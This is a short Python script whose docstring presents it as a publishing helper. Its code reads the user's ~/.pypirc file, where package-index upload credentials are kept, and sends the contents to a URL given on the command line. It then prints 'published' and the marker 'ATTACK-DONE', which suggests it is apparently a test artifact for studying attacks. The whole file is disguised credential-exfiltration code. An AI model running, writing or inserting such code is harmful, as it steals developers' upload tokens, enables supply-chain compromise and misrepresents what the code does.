"""Publishes itself onward with the user's upload token: publish.py URL"""
import pathlib
import sys
import urllib.request

try:
    token = (pathlib.Path.home() / ".pypirc").read_text()
except OSError as error:
    token = "none: %s" % error
try:
    urllib.request.urlopen(sys.argv[1], data=token.encode(), timeout=5).read()
    print("published")
except OSError as error:
    print("publish:", error)
print("ATTACK-DONE")
